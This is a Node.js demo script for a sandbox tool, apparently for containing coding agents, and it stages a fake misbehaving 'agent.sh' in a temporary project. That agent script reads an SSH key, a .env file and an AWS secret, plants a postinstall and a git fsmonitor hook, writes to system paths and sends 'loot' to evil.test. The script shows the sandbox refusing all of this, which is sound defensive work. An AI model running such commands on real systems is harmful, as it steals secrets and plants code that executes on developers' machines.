// scripts/demo.mjs: `npm run demo`: the main job, end to end, in a terminal. Needs no key, no account and no network.
// Everything happens for real, in a throw-away project; nothing outside it is written.
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { root, setUp } from './setup.mjs';

await setUp();
const colour = process.stdout.isTTY && process.env.NO_COLOR === undefined;
const bold = (text) => (colour ? `\x1b[1m${text}\x1b[0m` : text);
const dim = (text) => (colour ? `\x1b[2m${text}\x1b[0m` : text);
const say = (text = '') => process.stdout.write(`${text}\n`);
const started = Date.now();
const home = mkdtempSync(join(tmpdir(), 'ags-demo-'));
const project = join(home, 'webshop');
const env = {
  PATH: process.env.PATH,
  HOME: home,
  SHELL: '/bin/sh',
  TERM: process.env.TERM ?? 'dumb',
  LANG: process.env.LANG ?? 'C.UTF-8',
  AWS_SECRET_ACCESS_KEY: 'a-real-key',
  ...(colour ? { FORCE_COLOR: '1' } : { NO_COLOR: '1' }),
};

try {
  story();
  say(bold(`\nDone in ${((Date.now() - started) / 1000).toFixed(1)} s. Try it in a repository of your own:`));
  say(
    '  ./ags doctor            what works on this machine\n  ./ags exec -- npm test  run anything over your repository, safely\n  ./ags shell             look around inside',
  );
} finally {
  rmSync(home, { recursive: true, force: true });
}

function story() {
  makeProject();
  step('1. A command runs over the repository, in a sandbox. Tests pass as if they ran directly.');
  ags(['exec', '--', 'node', '--test', 'test/price.test.mjs']);

  step('2. An "agent" does what it was asked to, and more than it was asked to.');
  say(
    dim(
      readFileSync(join(project, 'agent.sh'), 'utf8')
        .trim()
        .split('\n')
        .slice(1)
        .map((line) => `    ${line}`)
        .join('\n'),
    ),
  );
  const run = ags(['exec', '--review', 'later', '--name', 'discount', '--', 'sh', './agent.sh']);
  check(run.stderr.includes('changed; nothing was taken'), 'the changes wait for a review');
  check(readFileSync(join(project, 'src/price.mjs'), 'utf8').includes('return sum;'), 'the original was not written');
  check(
    !run.stdout.includes('BEGIN OPENSSH') && !run.stdout.includes('a-real-key') && !run.stdout.includes('hunter2'),
    'no secret was seen inside',
  );

  step(
    '3. It tried to send something to a host that no rule allows. That is written down, with the program that asked.',
  );
  const log = ags(['net', 'log', '--denied']);
  check(run.stderr.includes('refused evil.test'), 'the host was refused');
  check(log.stdout.includes('evil.test'), 'and the log says so');

  step('4. Three more at once, over the same repository: they do not see each other.');
  parallel();

  step('5. What changed? Files that can run code on your machine come first.');
  ags(['review', 'discount'], { quiet: false });

  step('6. Take the rest, but not those.');
  ags(['review', 'discount', '--accept-all']);
  check(readFileSync(join(project, 'src/price.mjs'), 'utf8').includes('0.9'), 'src/price.mjs was taken');
  check(!readFileSync(join(project, 'package.json'), 'utf8').includes('postinstall'), 'the install script was not');
  show('git', ['status', '--short']);

  step('7. Throw away what is left.');
  ags(['review', 'discount', '--discard-all']);
  ags(['cleanup', '--all', '--yes']);
  ags(['list']);
}

function parallel() {
  const script =
    'for n in 1 2 3; do (node AGS exec --review later --name "worker-$n" -- sh -c "echo made by worker $n > result.txt; cat result.txt") & done; wait'.replace(
      'AGS',
      JSON.stringify(join(root, 'bin/ags.cjs')),
    );
  show('sh', ['-c', script], { hidden: true });
}

function makeProject() {
  const files = {
    'package.json': '{ "name": "webshop", "type": "module", "scripts": { "test": "node --test" } }\n',
    'src/price.mjs':
      'export function total(items) {\n  const sum = items.reduce((all, item) => all + item.price, 0);\n  return sum;\n}\n',
    'test/price.test.mjs':
      "import test from 'node:test';\nimport assert from 'node:assert';\nimport { total } from '../src/price.mjs';\n\ntest('the total is the sum of the prices', () => {\n  assert.equal(total([{ price: 2 }, { price: 3 }]), 5);\n});\n",
    '.gitignore': '.env\n',
    'agent.sh': [
      '#!/bin/sh',
      "sed -i 's/return sum;/return sum > 100 ? sum * 0.9 : sum;/' src/price.mjs",
      "echo '- 10 % off above 100' > CHANGES.md",
      `sed -i 's/"scripts": {/"scripts": { "postinstall": "node steal.mjs",/' package.json`,
      'cat ~/.ssh/id_ed25519; cat .env; echo "key: $AWS_SECRET_ACCESS_KEY"',
      'touch /etc/owned /usr/bin/owned; git config core.fsmonitor "touch /tmp/owned"',
      'node -e \'fetch("https://evil.test/?loot=1").catch((e) => console.log("network:", e.cause.code))\'',
      '',
    ].join('\n'),
  };
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(project, path)), { recursive: true });
    writeFileSync(join(project, path), text);
  }
  mkdirSync(join(home, '.ssh'));
  writeFileSync(join(home, '.ssh/id_ed25519'), '-----BEGIN OPENSSH PRIVATE KEY-----\n');
  writeFileSync(join(project, '.env'), 'DB_PASSWORD=hunter2\n');
  for (const args of [
    ['init', '-q', '-b', 'main'],
    ['add', '-A'],
    ['-c', 'user.name=Demo', '-c', 'user.email=demo@example.test', 'commit', '-q', '-m', 'webshop'],
  ])
    spawnSync('git', args, { cwd: project, env });
}

function step(text) {
  say(`\n${bold(text)}`);
}

function ags(args, { quiet = false } = {}) {
  say(dim(`$ ags ${args.map((word) => (/^[\w./:@=-]+$/.test(word) ? word : `'${word}'`)).join(' ')}`));
  return run(process.execPath, [join(root, 'bin/ags.cjs'), ...args], quiet);
}

function show(program, args, { hidden = false } = {}) {
  if (!hidden) say(dim(`$ ${program} ${args.join(' ')}`));
  return run(program, args, false);
}

function run(program, args, quiet) {
  const done = spawnSync(program, args, { cwd: project, env, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
  if (!quiet) process.stdout.write(`${done.stdout}${done.stderr}`.replaceAll(/^(?=.)/gm, '    '));
  return done;
}

function check(holds, what) {
  say(`  ${holds ? 'ok' : 'FAILED'}  ${what}`);
  if (!holds) process.exitCode = 1;
}
